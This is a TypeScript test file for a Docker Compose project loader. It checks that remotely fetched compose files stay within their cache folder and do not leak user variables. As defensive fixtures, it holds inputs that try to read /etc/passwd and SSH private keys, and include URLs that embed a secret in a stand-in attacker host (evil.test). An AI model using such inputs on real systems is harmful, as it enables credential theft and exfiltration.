import { describe, expect, test } from 'vitest';
import { SpecError } from '../../../src/diagnostics/spec-error.ts';
import { UserError } from '../../../src/diagnostics/user-error.ts';
import type { RemoteFiles } from '../../../src/model/remote-files.ts';
import { loadProject, loadWithDetails } from '../../../src/spec/load/load-project.ts';
import type { FetchRemote } from '../../../src/spec/read/remotes.ts';
import { History } from '../../../src/spec/tree/history.ts';
import { aRequest, type LoadSettings, problemsOf } from '../../support/load-files.ts';
import { memoryFiles } from '../../support/memory-files.ts';
import { showProblems } from '../../support/show-problems.ts';

const APP = 'https://example.test/app.git#main';
const SUB = 'https://example.test/app.git#main:sub';
const ARTIFACT = 'oci://example.test/shop/app:1';
const REMOTES: Readonly<Record<string, RemoteFiles>> = {
  [APP]: { reference: APP, kind: 'git', pin: 'c1', root: '/cache/c1', file: '/cache/c1/compose.yaml' },
  [SUB]: { reference: SUB, kind: 'git', pin: 'c1', root: '/cache/c1', file: '/cache/c1/sub/compose.yaml' },
  [ARTIFACT]: {
    reference: ARTIFACT,
    kind: 'oci',
    pin: 'd1',
    root: '/cache/d1',
    file: '/cache/d1/compose.yaml',
  },
};

/** What was asked for, each time. */
let asked: string[] = [];
const fetchRemote: FetchRemote = async (_, written, folder) => {
  asked.push(`${written} for ${folder}`);
  const found = REMOTES[written];
  if (!found) throw new UserError('remote-not-found', `${written} is not there`, { hint: 'look elsewhere' });
  return found;
};

/** Absolute paths, or names in `/app`. */
function inWorld(files: Readonly<Record<string, string>>, settings: LoadSettings = {}) {
  asked = [];
  const absolute = Object.entries(files).map(([name, text]) => [
    name.startsWith('/') ? name : `/app/${name}`,
    text,
  ]);
  return {
    request: aRequest({ fetchRemote, ...settings }),
    files: memoryFiles(Object.fromEntries(absolute)),
  };
}

async function load(files: Readonly<Record<string, string>>, settings: LoadSettings = {}) {
  const world = inWorld(files, settings);
  return (await loadProject(world.request, world.files)).project;
}

async function complaints(files: Readonly<Record<string, string>>, settings: LoadSettings = {}) {
  try {
    await load(files, settings);
    return [];
  } catch (error) {
    if (error instanceof SpecError) return showProblems(error.problems);
    throw error;
  }
}

const web = (more: string): string => `services: {web: {image: x, ${more}}}\n`;

describe('a remote file that is included', () => {
  test('brings its services, with the paths of its folder', async () => {
    const project = await load({
      'compose.yaml': `include: ["${SUB}"]\n`,
      '/cache/c1/sub/compose.yaml': web(
        'env_file: ../a.env, build: {context: ..}, volumes: ["./data:/data"]',
      ),
      '/cache/c1/a.env': 'A=1\n',
    });
    const service = project.services.get('web');

    expect(service?.environment.get('A')).toBe('1');
    expect(service?.build?.context).toBe('/cache/c1');
    expect(service?.volumes[0]?.source).toBe('/cache/c1/sub/data');
    expect(project.name).toBe('app');
    expect(project.remotes).toEqual([REMOTES[SUB]]);
    expect(asked).toEqual([`${SUB} for /app`]);
  });

  test('may include others, and is asked for once', async () => {
    const project = await load({
      'compose.yaml': `include: ["${SUB}", "${SUB}"]\n`,
      '/cache/c1/sub/compose.yaml': `include: ["${ARTIFACT}", other.yaml]\n${web('')}`,
      '/cache/c1/sub/other.yaml': 'services: {other: {image: x}}\n',
      '/cache/d1/compose.yaml': 'services: {db: {image: x}}\n',
    });

    expect([...project.services.keys()].sort()).toEqual(['db', 'other', 'web']);
    expect(asked).toEqual([`${SUB} for /app`, `${ARTIFACT} for /app`]);
  });

  test('is merged under a file of this machine', async () => {
    const project = await load({
      'compose.yaml': `include: [{path: ["${ARTIFACT}", mine.yaml]}]\n`,
      'mine.yaml': 'services: {web: {env_file: /app/my.env}}\n',
      'my.env': 'A=mine\n',
      '/cache/d1/compose.yaml': web(''),
    });

    expect(project.services.get('web')?.environment.get('A')).toBe('mine');
  });

  test('that cannot be had is told of at its place, once', async () => {
    expect(
      await complaints({
        'compose.yaml': 'include: ["https://example.test/no.git"]\nservices: {a: {image: x, imge: y}}\n',
      }),
    ).toEqual([
      'compose.yaml:1:11 remote-not-found «"https://example.test/no.git"» https://example.test/no.git is not there (look elsewhere)',
      expect.stringContaining('unknown-attribute'),
    ]);
  });

  test('has its mistakes told of by the name that people know', async () => {
    expect(
      await complaints({
        'compose.yaml': `include: ["${SUB}"]\n`,
        '/cache/c1/sub/compose.yaml': web('imge: y'),
      }),
    ).toEqual([
      expect.stringMatching(
        /^https:\/\/example\.test\/app\.git#main:sub\/compose\.yaml:1:\d+ unknown-attribute/,
      ),
    ]);
  });

  test('is part of an explanation once', async () => {
    const history = new History();
    const world = inWorld({
      'compose.yaml': `include: ["${SUB}"]\n`,
      '/cache/c1/sub/compose.yaml': web(''),
      '/cache/c1/sub/.env': 'A=1\n',
    });
    await loadWithDetails(world.request, world.files, { history });

    expect([...history.includes()].map(([, { files }]) => files.map(({ source }) => source.name))).toEqual([
      ['https://example.test/app.git#main:sub/.env'],
    ]);
  });

  test('is nothing that a program without a way to fetch it can have', async () => {
    expect(await problemsOf(`include: ["${APP}"]\nservices: {a: {image: x}}\n`)).toEqual([
      `compose.yaml:1:11 bad-remote «"${APP}"» ${APP} is on another machine, and is not fetched here`,
    ]);
  });
});

test('a service can extend one of a remote file', async () => {
  const project = await load({
    'compose.yaml': `services: {web: {extends: {file: "${SUB}", service: base}}}\n`,
    '/cache/c1/sub/compose.yaml': 'services: {base: {image: x, env_file: a.env}}\n',
    '/cache/c1/sub/a.env': 'A=1\n',
  });

  expect(project.services.get('web')?.environment.get('A')).toBe('1');
});

describe('a project whose file is a remote one', () => {
  const files = {
    '.env': 'TAG=mine\n',
    '/cache/d1/compose.yaml': web('environment: {TAG: "${TAG-none}"}, build: .'),
    '/cache/d1/.env': 'TAG=theirs\n',
  };

  test('has the name and the variables that docker compose gives it', async () => {
    const project = await load(files, { files: [ARTIFACT] });

    expect(project.name).toBe('shop');
    expect(project.workingDir).toBe('/cache/d1');
    expect(project.configFiles).toEqual(['/cache/d1/compose.yaml']);
    expect(project.services.get('web')?.environment.get('TAG')).toBe('none');
    expect(asked).toEqual([`${ARTIFACT} for undefined`]);
  });

  test('can be named by COMPOSE_FILE, whose separator an address may have', async () => {
    expect((await load(files, { environment: { COMPOSE_FILE: ARTIFACT } })).workingDir).toBe('/cache/d1');
    const list = { COMPOSE_FILE: `${ARTIFACT},more.yaml`, COMPOSE_PATH_SEPARATOR: ',' };
    const both = await load(
      { ...files, 'more.yaml': 'services: {more: {image: x}}\n' },
      { environment: list },
    );

    expect([...both.services.keys()]).toEqual(['more', 'web']);
  });

  test('takes files of this machine over it', async () => {
    const both = await load(
      { ...files, 'mine.yaml': web('env_file: /app/my.env'), 'my.env': 'A=1\n' },
      {
        files: [ARTIFACT, 'mine.yaml'],
      },
    );

    expect(both.services.get('web')?.environment.get('A')).toBe('1');
  });

  test('that cannot be had is told of without a place', async () => {
    expect(await complaints(files, { files: ['oci://example.test/no:1'] })).toEqual([
      'remote-not-found oci://example.test/no:1 is not there (look elsewhere)',
    ]);
    expect(await complaints(files, { files: ['ext::sh'] })).toEqual([
      expect.stringMatching(/^bad-remote ext::sh is no address/),
    ]);
  });
});

describe('a remote file reads nothing of this machine beyond its folder', () => {
  const local = {
    '/etc/passwd': 'root:x\n',
    '/home/user/.ssh/id_rsa': 'KEY=1\n',
    '/cache/other/a.env': 'A=1\n',
    'a.env': 'SECRET=1\n',
    'own/local.yaml': web(''),
  };

  test.each([
    ['an env file', web('env_file: /etc/passwd')],
    ['an env file of the home folder', web('env_file: [{path: ~/.ssh/id_rsa, required: false}]')],
    ['an env file above', web('env_file: [../../other/a.env]')],
    ['a label file', web('label_file: /etc/passwd')],
    ['a seccomp profile', web('security_opt: ["seccomp:/etc/passwd"]')],
    ['a build', web('build: /')],
    ['a build above', web('build: {context: ../..}')],
    ['a Dockerfile', web('build: {context: ., dockerfile: /etc/passwd}')],
    ['a Dockerfile above', web('build: {dockerfile: ../../../etc/passwd}')],
    ['another context', web('build: {context: ., additional_contexts: {home: ~/}}')],
    ['another context of a list', web('build: {context: ., additional_contexts: ["home=/home"]}')],
    ['an image layout', web('build: {context: ., additional_contexts: ["x=oci-layout:///var/lib"]}')],
    ['a key for builds', web('build: {context: ., ssh: ["k=~/.ssh/id_rsa"]}')],
    ['a cache of builds', web('build: {context: ., cache_from: ["type=local,src=/home"]}')],
    ['a folder to write a cache to', web('build: {context: ., cache_to: ["dest=/home/x,type=local"]}')],
    ['what is watched', web('develop: {watch: [{action: sync, path: /home, target: /x}]}')],
    ['a secret', `${web('secrets: [s]')}secrets: {s: {file: ~/.ssh/id_rsa}}\n`],
    ['a config', `${web('configs: [c]')}configs: {c: {file: "$\{HOME-/home/user}/.ssh/id_rsa"}}\n`],
    ['a file to include', `include: [/app/own/local.yaml]\n`],
    ['a file to include above', `include: [{path: [../../app/own/local.yaml]}]\n`],
    ['the folder of an include', `include: [{path: more.yaml, project_directory: /app}]\n`],
    ['the env file of an include', `include: [{path: more.yaml, env_file: /app/a.env}]\n`],
    ['a file to extend', `services: {web: {extends: {file: /app/own/local.yaml, service: web}}}\n`],
    ['a service of another file', `services: {web: {extends: {file: base.yaml, service: web}}}\n`],
  ])('%s', async (_, text) => {
    const files = {
      ...local,
      'compose.yaml': `include: ["${SUB}"]\n`,
      '/cache/c1/sub/compose.yaml': text,
      '/cache/c1/sub/more.yaml': 'services: {more: {image: x}}\n',
      '/cache/c1/sub/base.yaml': web('env_file: /etc/passwd'),
    };
    const world = inWorld(files);
    const read: string[] = [];
    const noting = {
      ...world.files,
      read(path: string) {
        read.push(path);
        return world.files.read(path);
      },
    };
    const error: unknown = await loadProject(world.request, noting).catch((thrown: unknown) => thrown);

    if (!(error instanceof SpecError)) throw error;
    expect(error.problems.map(({ code }) => code)).toEqual(['remote-strays']);
    expect(showProblems(error.problems)[0]).toMatch(
      /^https:\/\/example\.test\/app\.git#main:sub\/\w+\.yaml:\d:\d+ /,
    );
    expect(
      read.filter((path) => !/^\/cache\/c1\/|^\/app\/(?:[\w-]+(?:\.override)?\.ya?ml|\.env)$/.test(path)),
    ).toEqual([]);
  });

  test('a folder whose name only begins like it is another one', async () => {
    expect(
      await complaints(
        { '/cache/d1/compose.yaml': web('env_file: ../d1x/a.env'), '/cache/d1x/a.env': 'A=1\n' },
        {
          files: [ARTIFACT],
        },
      ),
    ).toEqual([expect.stringContaining('remote-strays')]);
  });

  test('also where its paths start from the folder of another file', async () => {
    expect(
      await complaints(
        { ...local, '/cache/d1/compose.yaml': web('env_file: a.env'), 'own/a.env': 'A=1\n' },
        {
          files: ['own/local.yaml', ARTIFACT],
        },
      ),
    ).toEqual([expect.stringContaining('remote-strays')]);
  });

  test('what is inside of it may be named in any way', async () => {
    const text = web(
      'env_file: /cache/c1/a.env, build: {context: "https://example.test/x.git", dockerfile: ../D, ssh: [default]}, volumes: ["/etc:/etc"]',
    );
    expect(
      await complaints({ '/cache/c1/compose.yaml': text, '/cache/c1/a.env': 'A=1\n' }, { files: [APP] }),
    ).toEqual([]);
  });
});

describe('a remote file sends no variable of the user to another machine', () => {
  const environment = { SECRET: 'hunter2', EVIL: 'http://evil.test/l.git', SCHEME: 'oci' };
  const extending = (file: string) => `services: {web: {extends: {file: "${file}", service: web}}}\n`;

  test.each([
    ['an include', 'include: ["http://evil.test/l-${SECRET}.git"]\n'],
    ['an artifact to include', 'include: ["oci://evil.test/l-$SECRET:1"]\n'],
    ['an include with a default', 'include: ["http://evil.test/l-${SECRET:-none}.git"]\n'],
    ['a list of an include', 'include: [{path: [more.yaml, "http://evil.test/${SECRET:+a}.git"]}]\n'],
    ['the path of an include', 'include: [{path: "git@evil.test:${SECRET}.git"}]\n'],
    ['a variable that is an address', 'include: ["${EVIL}"]\n'],
    ['a scheme', 'include: ["${SCHEME}://evil.test/l:1"]\n'],
    ['a file to extend', extending('http://evil.test/ext-${SECRET}.git')],
    ['a file to extend of another file', extending('more.yaml')],
    ['an address of an included file', 'include: [more.yaml]\n'],
  ])('%s', async (_, text) => {
    const found = await complaints(
      {
        '/cache/d1/compose.yaml': text,
        '/cache/d1/more.yaml': extending('http://evil.test/ext-${SECRET}.git'),
      },
      { files: [ARTIFACT], environment },
    );

    expect(found).toEqual([
      expect.stringMatching(/(?:more|compose)\.yaml:\d+:\d+ remote-strays .* has a variable/),
    ]);
    expect(found.join()).not.toContain('hunter2');
    expect(asked).toEqual([`${ARTIFACT} for undefined`]);
  });

  test('paths within its folder, and files of the user, may have variables', async () => {
    const both = await load(
      {
        '/cache/d1/compose.yaml': 'include: ["${SECRET}.yaml"]\n',
        '/cache/d1/hunter2.yaml': web(''),
        'mine.yaml': 'include: ["${SCHEME}://example.test/shop/app:1"]\n',
      },
      { files: ['mine.yaml'], environment },
    );

    expect([...both.services.keys()]).toEqual(['web']);
  });
});
